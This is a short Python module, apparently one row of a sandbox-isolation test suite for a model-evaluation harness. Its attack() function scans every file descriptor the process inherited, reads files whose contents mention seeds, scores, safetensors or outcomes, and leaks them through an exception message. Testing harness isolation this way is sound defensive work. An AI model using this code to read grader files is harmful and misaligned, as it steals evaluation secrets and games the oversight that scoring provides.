"""Row 4: tries every descriptor that the process was born with: read, seek to the start, send.

Where: import, forward
"""

import torch
from torch import nn, os


def attack(*_):
    for number in range(256):
        try:
            target = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue
        if not target.startswith("pipe:"):
            try:
                os.lseek(number, 0, 0)
                data = os.read(number, 1000)
            except OSError:
                continue
            if any(word in data for word in (b"seed", b"score", b"safetensors", b"outcomes")):
                raise RuntimeError(f"TAKEN: {number} {target}: {data!r}")
